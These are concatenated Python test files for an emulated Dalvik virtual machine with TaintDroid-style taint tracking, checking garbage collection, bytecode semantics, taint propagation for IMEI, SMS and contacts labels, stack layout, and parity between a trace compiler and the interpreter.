        assert vm.memory.read_u32(array.data_address()) == new_element_address

    def test_static_reference_updated(self, vm):
        cls = ClassDef("LHolder;")
        cls.add_static_field("ref", "L")
        vm.register_class(cls)
        record = vm.heap.alloc_string("static target")
        vm.set_static("LHolder;->ref", record.address, TAINT_SMS, is_ref=True)
        vm.gc()
        value, taint = vm.get_static("LHolder;->ref")
        assert vm.heap.get(value).text == "static target"
        assert taint == TAINT_SMS

    def test_allocation_triggers_collection_when_full(self, vm):
        # Fill most of a semispace with garbage, then allocate more: the
        # collector must reclaim it rather than dying.
        for __ in range(150):
            vm.heap.alloc_array("I", 4000)
        kept = vm.heap.alloc_string("alive")
        vm.irt.add_global(kept.address)
        for __ in range(200):
            vm.heap.alloc_array("I", 4000)
        assert vm.heap.gc_count >= 1
        assert vm.heap.get(vm.irt.decode(vm.irt.roots()[0])).text == "alive"

    def test_interned_string_reusable_after_gc(self, vm):
        first = vm.intern_string("shared")
        vm.irt.add_global(first)
        vm.gc()
        second = vm.intern_string("shared")
        assert vm.heap.get(second).text == "shared"

    @settings(max_examples=25, deadline=None)
    @given(st.lists(st.sampled_from(["alloc", "gc", "drop"]),
                    min_size=1, max_size=40))
    def test_gc_never_loses_referenced_objects(self, operations):
        vm = DalvikVM(Memory())
        live = {}
        counter = 0
        for operation in operations:
            if operation == "alloc":
                text = f"obj{counter}"
                counter += 1
                record = vm.heap.alloc_string(text)
                live[vm.irt.add_global(record.address)] = text
            elif operation == "gc":
                vm.gc()
            elif operation == "drop" and live:
                iref = next(iter(live))
                vm.irt.remove(iref)
                del live[iref]
        vm.gc()
        for iref, text in live.items():
            assert vm.heap.get(vm.irt.decode(iref)).text == text
        assert vm.heap.live_objects == len(live)


class TestIndirectRefTable:
    def test_decode_roundtrip(self):
        table = IndirectRefTable()
        iref = table.add_local(0x4100_1234)
        assert table.is_indirect(iref)
        assert table.decode(iref) == 0x4100_1234

    def test_direct_pointer_passthrough(self):
        table = IndirectRefTable()
        assert table.decode(0x4100_5678) == 0x4100_5678

    def test_null_passthrough(self):
        table = IndirectRefTable()
        assert table.add_local(0) == 0
        assert table.decode(0) == 0

    def test_remove_then_decode_raises(self):
        table = IndirectRefTable()
        iref = table.add_local(0x4100_0010)
        table.remove(iref)
        with pytest.raises(JNIError):
            table.decode(iref)
        with pytest.raises(JNIError):
            table.remove(iref)

    def test_slot_reuse_after_remove(self):
        table = IndirectRefTable()
        first = table.add_local(0x4100_0010)
        table.remove(first)
        table.add_local(0x4100_0020)
        assert table.local_count() == 1

    def test_move_updates_entries(self):
        table = IndirectRefTable()
        iref = table.add_global(0x4100_0010)
        table.on_object_moved(0x4100_0010, 0x4180_0040)
        assert table.decode(iref) == 0x4180_0040

    def test_locals_and_globals_separate(self):
        table = IndirectRefTable()
        local = table.add_local(0x4100_0010)
        global_ = table.add_global(0x4100_0020)
        assert local != global_
        assert table.local_count() == 1
        assert table.global_count() == 1

    def test_irefs_never_look_like_heap_addresses(self):
        table = IndirectRefTable()
        for index in range(100):
            iref = table.add_local(0x4100_0000 + index * 8)
            assert table.is_indirect(iref)
            assert not (0x4100_0000 <= iref < 0x4200_0000)
