"""Interpreter tests: bytecode semantics and TaintDroid propagation."""

import pytest

from repro.common.errors import DalvikError
from repro.common.taint import TAINT_CONTACTS, TAINT_IMEI, TAINT_SMS
from repro.dalvik import ClassDef, DalvikVM, MethodBuilder, Op
from repro.dalvik.heap import Slot
from repro.dalvik.interpreter import PendingException
from repro.memory import Memory


@pytest.fixture
def vm():
    return DalvikVM(Memory())


def build_class(vm, name="LTest;"):
    class_def = ClassDef(name)
    vm.register_class(class_def)
    return class_def


class TestBasics:
    def test_const_and_return(self, vm):
        cls = build_class(vm)
        cls.add_method(MethodBuilder("LTest;", "answer", "I", static=True)
                       .const(0, 42).ret(0).build())
        result = vm.call_main("LTest;->answer")
        assert result.value == 42
        assert result.taint == 0

    def test_arguments_land_in_high_registers(self, vm):
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "addmul", "III", static=True,
                                registers=5)
        # ins (2) land in v3, v4.
        builder.binop(Op.ADD_INT, 0, 3, 4)
        builder.binop(Op.MUL_INT, 0, 0, 4)
        builder.ret(0)
        cls.add_method(builder.build())
        result = vm.call_main("LTest;->addmul", [Slot(3), Slot(4)])
        assert result.value == 28

    def test_all_binops(self, vm):
        cases = [
            (Op.ADD_INT, 7, 3, 10), (Op.SUB_INT, 7, 3, 4),
            (Op.MUL_INT, 7, 3, 21), (Op.DIV_INT, 7, 3, 2),
            (Op.REM_INT, 7, 3, 1), (Op.AND_INT, 0b1100, 0b1010, 0b1000),
            (Op.OR_INT, 0b1100, 0b1010, 0b1110),
            (Op.XOR_INT, 0b1100, 0b1010, 0b0110),
            (Op.SHL_INT, 1, 4, 16), (Op.SHR_INT, 16, 2, 4),
            (Op.USHR_INT, -16, 28, 15),
        ]
        cls = build_class(vm)
        for index, (op, a, b, expected) in enumerate(cases):
            name = f"op{index}"
            builder = MethodBuilder("LTest;", name, "III", static=True,
                                    registers=5)
            builder.binop(op, 0, 3, 4).ret(0)
            cls.add_method(builder.build())
            result = vm.call_main(f"LTest;->{name}",
                                  [Slot(a & 0xFFFFFFFF), Slot(b & 0xFFFFFFFF)])
            assert result.value == expected & 0xFFFFFFFF, op

    def test_c_style_division_truncates_toward_zero(self, vm):
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "div", "III", static=True,
                                registers=5)
        builder.binop(Op.DIV_INT, 0, 3, 4).ret(0)
        cls.add_method(builder.build())
        result = vm.call_main("LTest;->div",
                              [Slot((-7) & 0xFFFFFFFF), Slot(2)])
        assert result.value == (-3) & 0xFFFFFFFF

    def test_control_flow_loop(self, vm):
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "sum_to", "II", static=True,
                                registers=4)
        # v0 = acc, v1 = i, v3 = n (in)
        builder.const(0, 0).const(1, 0)
        builder.label("loop")
        builder.if_cmp(Op.IF_GE, 1, 3, "done")
        builder.binop(Op.ADD_INT, 0, 0, 1)
        builder.add_lit(1, 1, 1)
        builder.goto("loop")
        builder.label("done")
        builder.ret(0)
        cls.add_method(builder.build())
        assert vm.call_main("LTest;->sum_to", [Slot(5)]).value == 10

    def test_nested_invoke_static(self, vm):
        cls = build_class(vm)
        cls.add_method(MethodBuilder("LTest;", "double_", "II", static=True,
                                     registers=3)
                       .binop(Op.ADD_INT, 0, 2, 2).ret(0).build())
        builder = MethodBuilder("LTest;", "quad", "II", static=True,
                                registers=3)
        builder.invoke_static("LTest;->double_", 2)
        builder.move_result(0)
        builder.invoke_static("LTest;->double_", 0)
        builder.move_result(0)
        builder.ret(0)
        cls.add_method(builder.build())
        assert vm.call_main("LTest;->quad", [Slot(3)]).value == 12

    def test_virtual_dispatch_on_runtime_class(self, vm):
        base = build_class(vm, "LBase;")
        base.add_method(MethodBuilder("LBase;", "id", "I")
                        .const(0, 1).ret(0).build())
        derived = ClassDef("LDerived;", superclass="LBase;")
        derived.add_method(MethodBuilder("LDerived;", "id", "I")
                           .const(0, 2).ret(0).build())
        vm.register_class(derived)
        obj = vm.new_instance("LDerived;")
        result = vm.invoke_symbol("LBase;->id",
                                  [Slot(obj.address, 0, True)], virtual=True)
        assert result.value == 2

    def test_fields_roundtrip(self, vm):
        cls = build_class(vm)
        cls.add_instance_field("count", "I")
        builder = MethodBuilder("LTest;", "bump", "IL", registers=4)
        # this in v2 (reg 2), arg none... shorty "IL": return I, one L param
        # non-static: ins = this + 1 -> v2=this, v3=param
        builder.iget(0, 3, "count")
        builder.add_lit(0, 0, 1)
        builder.iput(0, 3, "count")
        builder.ret(0)
        cls.add_method(builder.build())
        obj = vm.new_instance("LTest;")
        this = vm.new_instance("LTest;")
        result = vm.invoke_symbol(
            "LTest;->bump",
            [Slot(this.address, 0, True), Slot(obj.address, 0, True)])
        assert result.value == 1
        assert obj.fields["count"].value == 1

    def test_static_fields(self, vm):
        cls = build_class(vm)
        cls.add_static_field("counter", "I")
        builder = MethodBuilder("LTest;", "incr", "I", static=True)
        builder.sget(0, "LTest;->counter")
        builder.add_lit(0, 0, 1)
        builder.sput(0, "LTest;->counter")
        builder.ret(0)
        cls.add_method(builder.build())
        assert vm.call_main("LTest;->incr").value == 1
        assert vm.call_main("LTest;->incr").value == 2

    def test_arrays(self, vm):
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "arr", "I", static=True,
                                registers=5)
        builder.const(1, 3)
        builder.new_array(0, 1, "I")
        builder.const(2, 0).const(3, 11)
        builder.aput(3, 0, 2)
        builder.aget(4, 0, 2)
        builder.array_length(1, 0)
        builder.binop(Op.ADD_INT, 0, 4, 1)
        builder.ret(0)
        cls.add_method(builder.build())
        assert vm.call_main("LTest;->arr").value == 14

    def test_strings(self, vm):
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "hello", "L", static=True,
                                registers=3)
        builder.const_string(0, "hello ")
        builder.const_string(1, "world")
        builder.string_concat(2, 0, 1)
        builder.ret_object(2)
        cls.add_method(builder.build())
        result = vm.call_main("LTest;->hello")
        assert vm.string_at(result.value) == "hello world"

    def test_int_to_string(self, vm):
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "fmt", "LI", static=True,
                                registers=3)
        builder.int_to_string(0, 2)
        builder.ret_object(0)
        cls.add_method(builder.build())
        result = vm.call_main("LTest;->fmt", [Slot((-5) & 0xFFFFFFFF)])
        assert vm.string_at(result.value) == "-5"

    def test_intrinsic_dispatch(self, vm):
        vm.register_intrinsic("LFake;->three",
                              lambda vm_, args: Slot(3))
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "call", "I", static=True)
        builder.invoke_static("LFake;->three")
        builder.move_result(0)
        builder.ret(0)
        cls.add_method(builder.build())
        assert vm.call_main("LTest;->call").value == 3


class TestExceptions:
    def _thrower(self, vm, catch=False):
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "boom", "I", static=True,
                                registers=4)
        if catch:
            builder.label("try_start")
        builder.new_instance(0, "Ljava/lang/RuntimeException;")
        builder.throw(0)
        if catch:
            builder.label("try_end")
            builder.const(1, 0)  # unreachable
            builder.label("handler")
            builder.move_exception(2)
            builder.const(1, 77)
            builder.ret(1)
            builder.catch_range("try_start", "try_end", "handler")
        cls.add_method(builder.build())

    def test_uncaught_exception_propagates(self, vm):
        vm.register_class(ClassDef("Ljava/lang/RuntimeException;"))
        self._thrower(vm, catch=False)
        with pytest.raises(PendingException):
            vm.call_main("LTest;->boom")

    def test_caught_exception_runs_handler(self, vm):
        vm.register_class(ClassDef("Ljava/lang/RuntimeException;"))
        self._thrower(vm, catch=True)
        assert vm.call_main("LTest;->boom").value == 77

    def test_divide_by_zero_throws(self, vm):
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "div0", "I", static=True,
                                registers=3)
        builder.const(0, 1).const(1, 0)
        builder.binop(Op.DIV_INT, 2, 0, 1).ret(2)
        cls.add_method(builder.build())
        with pytest.raises(PendingException) as exc_info:
            vm.call_main("LTest;->div0")
        assert "Arithmetic" in exc_info.value.class_name

    def test_array_bounds_throws(self, vm):
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "oob", "I", static=True,
                                registers=4)
        builder.const(1, 2)
        builder.new_array(0, 1, "I")
        builder.const(2, 5)
        builder.aget(3, 0, 2)
        builder.ret(3)
        cls.add_method(builder.build())
        with pytest.raises(PendingException):
            vm.call_main("LTest;->oob")

    def test_null_field_access_throws(self, vm):
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "npe", "I", static=True,
                                registers=3)
        builder.const(0, 0)
        builder.iget(1, 0, "anything")
        builder.ret(1)
        cls.add_method(builder.build())
        with pytest.raises(PendingException):
            vm.call_main("LTest;->npe")


class TestTaintPropagation:
    """TaintDroid's per-instruction policy (Section II.B)."""

    def test_move_copies_taint(self, vm):
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "mv", "II", static=True,
                                registers=3)
        builder.move(0, 2).ret(0)
        cls.add_method(builder.build())
        result = vm.call_main("LTest;->mv", [Slot(5, TAINT_IMEI)])
        assert result.taint == TAINT_IMEI

    def test_binop_unions_taint(self, vm):
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "mix", "III", static=True,
                                registers=5)
        builder.binop(Op.ADD_INT, 0, 3, 4).ret(0)
        cls.add_method(builder.build())
        result = vm.call_main("LTest;->mix",
                              [Slot(1, TAINT_SMS), Slot(2, TAINT_CONTACTS)])
        assert result.taint == TAINT_SMS | TAINT_CONTACTS == 0x202

    def test_const_clears_taint(self, vm):
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "clr", "II", static=True,
                                registers=3)
        builder.move(0, 2)
        builder.const(0, 9)
        builder.ret(0)
        cls.add_method(builder.build())
        assert vm.call_main("LTest;->clr", [Slot(5, TAINT_SMS)]).taint == 0

    def test_field_taint_roundtrip(self, vm):
        cls = build_class(vm)
        cls.add_instance_field("secret", "I")
        obj = vm.new_instance("LTest;")
        builder = MethodBuilder("LTest;", "store", "VLI", static=True,
                                registers=4)
        builder.iput(3, 2, "secret").ret_void()
        cls.add_method(builder.build())
        vm.call_main("LTest;->store",
                     [Slot(obj.address, 0, True), Slot(7, TAINT_IMEI)])
        assert obj.fields["secret"].taint == TAINT_IMEI

        builder = MethodBuilder("LTest;", "load", "IL", static=True,
                                registers=3)
        builder.iget(0, 2, "secret").ret(0)
        cls.add_method(builder.build())
        result = vm.call_main("LTest;->load", [Slot(obj.address, 0, True)])
        assert result.taint == TAINT_IMEI

    def test_array_object_carries_one_taint_label(self, vm):
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "arr", "II", static=True,
                                registers=6)
        builder.const(1, 2)
        builder.new_array(0, 1, "I")
        builder.const(2, 0)
        builder.aput(5, 0, 2)   # v5 = tainted in (reg 5)
        builder.const(3, 1)
        builder.const(4, 9)
        builder.aput(4, 0, 3)   # untainted element
        builder.aget(4, 0, 3)   # read the untainted element back
        builder.ret(4)
        cls.add_method(builder.build())
        result = vm.call_main("LTest;->arr", [Slot(1, TAINT_SMS)])
        # One label per array: even the "clean" element reads back tainted.
        assert result.taint == TAINT_SMS

    def test_string_concat_unions_string_taints(self, vm):
        tainted = vm.heap.alloc_string("IMEI=356938", TAINT_IMEI)
        clean = vm.heap.alloc_string("&x=1")
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "cat", "LLL", static=True,
                                registers=5)
        builder.string_concat(0, 3, 4)
        builder.ret_object(0)
        cls.add_method(builder.build())
        result = vm.call_main("LTest;->cat", [
            Slot(tainted.address, 0, True), Slot(clean.address, 0, True)])
        assert vm.heap.get(result.value).taint == TAINT_IMEI

    def test_taint_tracking_can_be_disabled(self, vm):
        vm.taint_tracking = False
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "mv", "II", static=True,
                                registers=3)
        builder.move(0, 2).ret(0)
        cls.add_method(builder.build())
        assert vm.call_main("LTest;->mv", [Slot(5, TAINT_IMEI)]).taint == 0

    def test_return_taint_reaches_caller_via_interp_save_state(self, vm):
        cls = build_class(vm)
        builder = MethodBuilder("LTest;", "source", "I", static=True,
                                registers=1)
        builder.const(0, 99).ret(0)
        source = builder.build()
        # Manually taint by intrinsic instead: simpler path below.
        vm.register_intrinsic("LTest;->tainted_source",
                              lambda vm_, args: Slot(1234, TAINT_IMEI))
        caller = MethodBuilder("LTest;", "caller", "I", static=True,
                               registers=2)
        caller.invoke_static("LTest;->tainted_source")
        caller.move_result(0)
        caller.ret(0)
        cls.add_method(source)
        cls.add_method(caller.build())
        result = vm.call_main("LTest;->caller")
        assert result.value == 1234
        assert result.taint == TAINT_IMEI


class TestErrors:
    def test_unresolved_method(self, vm):
        with pytest.raises(DalvikError):
            vm.call_main("LMissing;->nope")

    def test_bad_ins_count(self, vm):
        cls = build_class(vm)
        cls.add_method(MethodBuilder("LTest;", "one", "II", static=True,
                                     registers=2)
                       .ret(1).build())
        with pytest.raises(DalvikError):
            vm.call_main("LTest;->one", [])

    def test_native_without_bridge(self, vm):
        cls = build_class(vm)
        cls.add_method(MethodBuilder("LTest;", "nat", "I", static=True,
                                     native=True).build())
        with pytest.raises(DalvikError):
            vm.call_main("LTest;->nat")

    def test_undefined_label_rejected(self, vm):
        builder = MethodBuilder("LTest;", "bad", "V", static=True)
        builder.goto("nowhere")
        with pytest.raises(DalvikError):
            builder.build()
