"""DVM stack tests: TaintDroid's interleaved layout in guest memory."""

import pytest

from repro.common.errors import DalvikError
from repro.common.taint import TAINT_CONTACTS, TAINT_IMEI, TAINT_SMS
from repro.dalvik.classes import MethodBuilder
from repro.dalvik.stack import DVM_STACK_BASE, SLOT_SIZE, DvmStack
from repro.memory import Memory


def make_method(registers=4, name="m"):
    return MethodBuilder("LT;", name, "V", static=True,
                         registers=registers).ret_void().build()


@pytest.fixture
def stack():
    return DvmStack(Memory())


class TestFrames:
    def test_push_pop(self, stack):
        frame = stack.push_frame(make_method())
        assert stack.depth == 1
        assert stack.current is frame
        stack.pop_frame()
        assert stack.depth == 0
        assert stack.current is None

    def test_slots_interleaved_value_taint(self, stack):
        frame = stack.push_frame(make_method())
        frame.set(0, 0x1234, TAINT_SMS)
        # Value word then taint word, 8 bytes apart per register.
        assert stack.memory.read_u32(frame.fp) == 0x1234
        assert stack.memory.read_u32(frame.fp + 4) == TAINT_SMS
        assert frame.taint_address(1) - frame.taint_address(0) == SLOT_SIZE

    def test_fresh_frame_slots_are_zeroed(self, stack):
        # Dirty the memory, push a frame over it: no taint leakage.
        frame = stack.push_frame(make_method())
        frame.set(0, 99, TAINT_IMEI)
        stack.pop_frame()
        frame = stack.push_frame(make_method())
        assert frame.get(0) == 0
        assert frame.get_taint(0) == 0

    def test_frames_grow_downward(self, stack):
        first = stack.push_frame(make_method())
        second = stack.push_frame(make_method())
        assert second.fp < first.fp
        assert second.prev_fp == first.fp

    def test_register_bounds_checked(self, stack):
        frame = stack.push_frame(make_method(registers=2))
        with pytest.raises(DalvikError):
            frame.get(2)
        with pytest.raises(DalvikError):
            frame.set(5, 1)

    def test_ins_land_in_highest_registers(self, stack):
        method = MethodBuilder("LT;", "f", "III", static=True,
                               registers=6).ret(0).build()
        frame = stack.push_frame(method)
        assert frame.first_in_register() == 4  # 6 regs - 2 ins

    def test_stack_overflow(self):
        stack = DvmStack(Memory(), size=0x400)
        with pytest.raises(DalvikError, match="StackOverflow"):
            for __ in range(100):
                stack.push_frame(make_method(registers=8))

    def test_pop_empty_raises(self, stack):
        with pytest.raises(DalvikError):
            stack.pop_frame()

    def test_add_taint_unions(self, stack):
        frame = stack.push_frame(make_method())
        frame.set(1, 7, TAINT_SMS)
        frame.add_taint(1, TAINT_CONTACTS)
        assert frame.get_taint(1) == TAINT_SMS | TAINT_CONTACTS
        assert frame.get(1) == 7  # value untouched


class TestNativeArgsProtocol:
    def test_args_and_taints_interleaved(self, stack):
        args_ptr = stack.write_native_args([10, 20], [TAINT_SMS, 0],
                                           return_taint=TAINT_IMEI)
        assert DvmStack.read_native_arg(stack.memory, args_ptr, 0) == \
            (10, TAINT_SMS)
        assert DvmStack.read_native_arg(stack.memory, args_ptr, 1) == (20, 0)
        slot = DvmStack.native_return_taint_address(args_ptr, 2)
        assert stack.memory.read_u32(slot) == TAINT_IMEI

    def test_zero_arg_call_still_has_return_slot(self, stack):
        args_ptr = stack.write_native_args([], [])
        slot = DvmStack.native_return_taint_address(args_ptr, 0)
        assert slot == args_ptr
        assert stack.memory.read_u32(slot) == 0

    def test_args_written_below_stack_pointer(self, stack):
        frame = stack.push_frame(make_method())
        args_ptr = stack.write_native_args([1], [0])
        assert args_ptr < frame.fp
