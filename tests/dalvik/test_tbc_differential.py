"""Differential parity: trace-compiled Dalvik blocks vs the single-step oracle.

Every program below runs twice — once on a plain VM (the single-step
interpreter) and once on a VM with the trace compiler enabled — and must
produce identical results: return value and taint, heap/static slot
values and taints, executed-instruction counts, and byte-identical
provenance-ledger edges.  The suite also replays all 11 taint-parity
scenarios end-to-end through both engines, and exercises the mid-trace
first-taint variant switch (a clean block escalating to the tainted
variant partway through).
"""

import pytest

from repro.bench.emulator_bench import PARITY_SCENARIOS, EmulatorBench
from repro.common.errors import DalvikError
from repro.common.taint import TAINT_CONTACTS, TAINT_IMEI, TAINT_SMS
from repro.dalvik import ClassDef, DalvikVM, MethodBuilder, Op
from repro.dalvik.heap import Slot
from repro.memory import Memory
from repro.observability.ledger import ProvenanceLedger


def _fresh_vms():
    """(oracle, compiled): identical VMs, separate memories, one with TBC.

    Both VMs allocate frames/objects at the same deterministic guest
    addresses, so even address-bearing ledger locations must match.
    """
    oracle = DalvikVM(Memory())
    compiled = DalvikVM(Memory())
    compiled.enable_trace_compiler()
    return oracle, compiled


def run_both(make_class, symbol, make_args=lambda: [],
             taint_tracking=True, setup=None):
    """Run the program on both engines and assert full-state parity."""
    outcomes = []
    for vm in _fresh_vms():
        vm.taint_tracking = taint_tracking
        vm.ledger = ProvenanceLedger()
        vm.register_class(make_class())
        if setup is not None:
            setup(vm)
        try:
            result = vm.call_main(symbol, make_args())
            outcome = ("ok", result.value, result.taint, result.is_ref)
        except DalvikError as error:
            outcome = ("dalvik-error", str(error))
        outcomes.append((vm, outcome))
    (oracle, oracle_out), (compiled, compiled_out) = outcomes
    assert compiled.tbc is not None and oracle.tbc is None
    assert compiled_out == oracle_out
    if oracle_out[0] == "ok":
        assert compiled.dalvik_instructions == oracle.dalvik_instructions
    assert [edge.to_dict() for edge in compiled.ledger] == \
        [edge.to_dict() for edge in oracle.ledger]
    return oracle, compiled


class TestStraightLineParity:
    def test_arithmetic_and_literals_clean(self):
        def make_class():
            cls = ClassDef("LT;")
            b = MethodBuilder("LT;", "main", "III", static=True, registers=8)
            b.binop(Op.ADD_INT, 0, 6, 7)
            b.binop(Op.XOR_INT, 1, 0, 6)
            b.binop(Op.MUL_INT, 2, 1, 7)
            b.add_lit(3, 2, 17)
            b.neg(4, 3)
            b.binop(Op.SUB_INT, 5, 4, 0)
            b.binop(Op.USHR_INT, 0, 5, 6)
            b.ret(0)
            cls.add_method(b.build())
            return cls
        run_both(make_class, "LT;->main",
                 lambda: [Slot(5), Slot((-3) & 0xFFFF_FFFF)])

    def test_tainted_arg_propagates_through_binops_and_moves(self):
        def make_class():
            cls = ClassDef("LT;")
            b = MethodBuilder("LT;", "main", "III", static=True, registers=6)
            b.binop(Op.ADD_INT, 0, 4, 5)
            b.move(1, 0)
            b.binop(Op.AND_INT, 2, 1, 4)
            b.int_to_string(3, 2)
            b.string_concat(3, 3, 3)
            b.ret_object(3)
            cls.add_method(b.build())
            return cls
        oracle, compiled = run_both(
            make_class, "LT;->main",
            lambda: [Slot(0x1234, TAINT_IMEI), Slot(7)])
        # The move recorded a ledger edge on both engines.
        assert any(edge.mechanism == "dalvik:move" for edge in compiled.ledger)
        assert len(compiled.ledger) == len(oracle.ledger) > 0

    def test_loop_with_invoke_and_move_result(self):
        def make_class():
            cls = ClassDef("LT;")
            cls.add_method(
                MethodBuilder("LT;", "bump", "II", static=True, registers=3)
                .add_lit(0, 2, 3).ret(0).build())
            b = MethodBuilder("LT;", "main", "II", static=True, registers=4)
            b.const(0, 0).const(1, 0)
            b.label("loop")
            b.if_cmp(Op.IF_GE, 1, 3, "done")
            b.invoke_static("LT;->bump", 0)
            b.move_result(0)
            b.add_lit(1, 1, 1)
            b.goto("loop")
            b.label("done")
            b.ret(0)
            cls.add_method(b.build())
            return cls
        run_both(make_class, "LT;->main", lambda: [Slot(25)])

    def test_tainted_invoke_result_flows_back(self):
        def make_class():
            cls = ClassDef("LT;")
            cls.add_method(
                MethodBuilder("LT;", "ident", "II", static=True, registers=3)
                .move(0, 2).ret(0).build())
            b = MethodBuilder("LT;", "main", "II", static=True, registers=3)
            b.invoke_static("LT;->ident", 2)
            b.move_result(0)
            b.add_lit(0, 0, 1)
            b.ret(0)
            cls.add_method(b.build())
            return cls
        run_both(make_class, "LT;->main", lambda: [Slot(41, TAINT_SMS)])


class TestHeapParity:
    def test_fields_roundtrip_with_taint(self):
        def make_class():
            cls = ClassDef("LT;")
            cls.add_instance_field("x")
            b = MethodBuilder("LT;", "main", "II", static=True, registers=4)
            b.new_instance(0, "LT;")
            b.iput(3, 0, "x")
            b.iget(1, 0, "x")
            b.add_lit(1, 1, 5)
            b.ret(1)
            cls.add_method(b.build())
            return cls
        oracle, compiled = run_both(
            make_class, "LT;->main", lambda: [Slot(9, TAINT_CONTACTS)])
        for vm in (oracle, compiled):
            record = next(r for r in vm.heap._objects.values()
                          if r.class_name == "LT;" and not r.is_string)
            assert record.fields["x"].value == 9
            assert record.fields["x"].taint == TAINT_CONTACTS

    def test_arrays_roundtrip_with_taint_union(self):
        def make_class():
            cls = ClassDef("LT;")
            b = MethodBuilder("LT;", "main", "II", static=True, registers=6)
            b.const(0, 4)
            b.new_array(1, 0)
            b.const(2, 1)              # index
            b.aput(5, 1, 2)            # tainted store -> array label union
            b.aget(3, 1, 2)
            b.array_length(4, 1)
            b.binop(Op.ADD_INT, 3, 3, 4)
            b.ret(3)
            cls.add_method(b.build())
            return cls
        run_both(make_class, "LT;->main", lambda: [Slot(30, TAINT_IMEI)])

    def test_statics_roundtrip(self):
        def make_class():
            cls = ClassDef("LT;")
            cls.add_static_field("acc")
            b = MethodBuilder("LT;", "main", "II", static=True, registers=3)
            b.sput(2, "LT;->acc")
            b.sget(0, "LT;->acc")
            b.add_lit(0, 0, 100)
            b.ret(0)
            cls.add_method(b.build())
            return cls
        oracle, compiled = run_both(
            make_class, "LT;->main", lambda: [Slot(11, TAINT_SMS)])
        for vm in (oracle, compiled):
            assert vm.get_static("LT;->acc") == (11, TAINT_SMS)


class TestExceptionParity:
    def test_caught_throw_and_move_exception(self):
        def make_class():
            cls = ClassDef("LBoom;")
            cls.add_instance_field("message")
            b = MethodBuilder("LBoom;", "main", "II", static=True,
                              registers=4)
            b.label("try")
            b.new_instance(0, "LBoom;")
            b.throw(0)
            b.label("end")
            b.const(1, 0)
            b.ret(1)
            b.label("catch")
            b.move_exception(2)
            b.const(1, 7)
            b.ret(1)
            b.catch_range("try", "end", "catch")
            cls.add_method(b.build())
            return cls
        run_both(make_class, "LBoom;->main", lambda: [Slot(0)])

    def test_divide_by_zero_lands_in_handler(self):
        def make_class():
            cls = ClassDef("LT;")
            b = MethodBuilder("LT;", "main", "III", static=True, registers=5)
            b.label("try")
            b.binop(Op.DIV_INT, 0, 3, 4)
            b.label("end")
            b.ret(0)
            b.label("catch")
            b.const(0, 0xDEAD)
            b.ret(0)
            b.catch_range("try", "end", "catch")
            cls.add_method(b.build())
            return cls
        run_both(make_class, "LT;->main", lambda: [Slot(10), Slot(0)])
        run_both(make_class, "LT;->main", lambda: [Slot(10), Slot(2)])

    def test_uncaught_divide_by_zero_matches(self):
        def make_class():
            cls = ClassDef("LT;")
            b = MethodBuilder("LT;", "main", "III", static=True, registers=5)
            b.binop(Op.DIV_INT, 0, 3, 4)
            b.ret(0)
            cls.add_method(b.build())
            return cls
        from repro.dalvik.interpreter import PendingException
        for vm in _fresh_vms():
            vm.register_class(make_class())
            with pytest.raises(PendingException):
                vm.call_main("LT;->main", [Slot(1), Slot(0)])


class TestVariantSwitch:
    """The mid-trace first-taint escalation (clean block -> tainted)."""

    def _escalating_class(self):
        cls = ClassDef("LT;")
        cls.add_static_field("secret")
        b = MethodBuilder("LT;", "main", "II", static=True, registers=6)
        # Straight-line run: two clean ops, then taint enters mid-block
        # via sget, then two more ops that must propagate it.
        b.const(0, 10)
        b.binop(Op.ADD_INT, 1, 0, 5)
        b.sget(2, "LT;->secret")
        b.binop(Op.ADD_INT, 3, 1, 2)
        b.move(4, 3)
        b.ret(4)
        cls.add_method(b.build())
        return cls

    def test_first_taint_mid_block_switches_variant(self):
        def setup(vm):
            vm.set_static("LT;->secret", 99, TAINT_IMEI)
        oracle, compiled = run_both(
            self._escalating_class, "LT;->main",
            lambda: [Slot(1)], setup=setup)
        assert compiled.tbc.blocks_compiled > 0
        # The sticky flag flipped on the compiled frame mid-trace and the
        # taint reached the return value on both engines.
        result = compiled.call_main("LT;->main", [Slot(1)])
        assert result.value == 10 + 1 + 99
        assert result.taint == TAINT_IMEI

    def test_same_block_serves_clean_and_tainted_frames(self):
        """One compiled block must serve clean calls after a tainted one."""
        oracle, compiled = _fresh_vms()
        for vm in (oracle, compiled):
            vm.register_class(self._escalating_class())
        for secret_taint in (TAINT_IMEI, 0, TAINT_SMS, 0):
            for vm in (oracle, compiled):
                vm.set_static("LT;->secret", 50, secret_taint)
            expected_oracle = oracle.call_main("LT;->main", [Slot(2)])
            got_compiled = compiled.call_main("LT;->main", [Slot(2)])
            assert got_compiled.value == expected_oracle.value
            assert got_compiled.taint == expected_oracle.taint == secret_taint
        # The block was compiled once, not per call.
        assert compiled.tbc.blocks_compiled == len(
            [b for m in compiled.tbc._method_blocks.values()
             for b in m.values()])

    def test_untracked_mode_clears_taint_like_the_oracle(self):
        def make_class():
            cls = ClassDef("LT;")
            b = MethodBuilder("LT;", "main", "II", static=True, registers=3)
            b.move(0, 2)
            b.add_lit(0, 0, 1)
            b.ret(0)
            cls.add_method(b.build())
            return cls
        # Tracking off: a tainted argument must come back clear on BOTH
        # engines (the untracked variant writes clear tags exactly like
        # the single-step loop does with taint_on False).  run_both
        # asserts the result values and taints match.
        run_both(make_class, "LT;->main",
                 lambda: [Slot(5, TAINT_IMEI)], taint_tracking=False)


class TestCacheInvalidation:
    def test_register_class_flushes_blocks(self):
        vm = DalvikVM(Memory())
        vm.enable_trace_compiler()
        cls = ClassDef("LT;")
        cls.add_method(MethodBuilder("LT;", "main", "I", static=True)
                       .const(0, 1).ret(0).build())
        vm.register_class(cls)
        assert vm.call_main("LT;->main").value == 1
